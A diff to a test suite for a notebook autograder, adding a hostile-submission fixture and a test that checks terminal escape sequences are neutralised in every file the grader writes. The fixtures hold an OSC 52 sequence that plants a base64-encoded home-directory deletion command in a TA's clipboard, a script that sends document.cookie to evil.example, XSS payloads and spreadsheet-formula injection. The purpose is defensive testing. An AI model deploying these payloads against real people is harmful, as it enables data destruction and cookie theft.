@@ -128,6 +128,9 @@ FIFO_MAIN = ("import os\n"
 FILLER = "import os\nos.makedirs('junk', exist_ok=True)\nfor i in range(30000):\n    open(f'junk/{i}', 'wb').close()\n"
 UNSHARE = "import subprocess\nsubprocess.run(['unshare', '-r', 'id'], check=True)\n"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# An exception message of escape sequences: OSC 52 (a terminal that runs it puts a command in the TA's clipboard),
+# a screen clear, a window title, NUL and BEL
+ESCAPES = "\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2J\x1b]0;owned\x07 NUL\x00 BEL\x07 \x9b31m"
 WEB_PAGE = ("<!DOCTYPE html>\n<html><head><script>fetch('http://evil.example/'+document.cookie)</script></head>"
             "<body><img src=x onerror=alert(1)><a href='javascript:alert(2)'>=HYPERLINK(\"evil.example\")</a>"
             "</body></html>\n")   # a saved web page under the notebook's name, written to attack the review page
@@ -170,6 +173,9 @@ def hostile(tmp_path_factory):
     for name, text in files.items():
         (canvas / name).write_text(text, encoding="utf-8")
     (moodle / "HW3_Modules.ipynb").write_text(honest, encoding="utf-8")
+    escape = base / "moodle" / "Esc Ape_7002_assignsubmission_file_"
+    escape.mkdir()
+    (escape / "HW3_Modules.ipynb").write_text(_reference_plus(f"raise ValueError({ESCAPES!r})"), encoding="utf-8")
     surrogate = FIELD / "surrogate-in-output"
     assert surrogate.is_dir(), f"shared case missing: {surrogate}"
     shared_before = snapshot(SHARED_CASES)
@@ -189,7 +195,7 @@ def hostile(tmp_path_factory):
 
 def test_honest_submissions_keep_their_exact_scores(hostile):
     reports = hostile["reports"]
-    for key in ("5001", "5005", "7001", "3002"):
+    for key in ("5001", "5005", "7001", "7002", "3002"):
         assert module_score(reports[key]) == (171, 171), (key, reports[key]["errors"])
     assert module_score(reports["5007"]) == (171, 171), reports["5007"]["errors"]      # its unshare cell fails alone
     assert module_score(reports["5003"]) == (171, 171), reports["5003"]["errors"]      # its raising cell fails alone
@@ -231,6 +237,19 @@ def test_every_gradebook_journal_and_feedback_file_is_written_and_opens_safely(h
         assert not re.search(r"<(a|img|b|script)\b", html), page.name
     backtick = (out / "grades_feedback" / "5003.html").read_text(encoding="utf-8")
     assert "evil.example" in backtick     # shown as text, never a link
+
+
+def test_escape_sequences_in_a_message_are_shown_never_written_raw(hostile):
+    """Control characters of a student's exception message reach no file the grader writes (the feedback's .md a TA
+    may `cat`, its HTML, the Moodle worksheet's comments, the JSON, the journal): each is shown as \\xNN."""
+    out = hostile["out"]
+    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+    for path in [p for p in out.rglob("*") if p.is_file() and p.suffix in (".md", ".html", ".csv", ".json", ".jsonl")]:
+        assert not control.search(path.read_text(encoding="utf-8")), path
+    assert any("\\x1b]52;c;" in e and "NUL\\x00" in e for e in hostile["reports"]["7002"]["errors"])
+    assert "\\x1b]52;c;" in (out / "grades_feedback" / "7002.md").read_text(encoding="utf-8")
+    with open(out / "grades_moodle.csv", newline="", encoding="utf-8") as f:
+        assert any("\\x1b]52;c;" in cell for row in csv.reader(f) for cell in row)
 
 
 def test_a_hostile_web_page_under_a_notebooks_name_awaits_a_ta_and_is_shown_only_as_text(hostile):
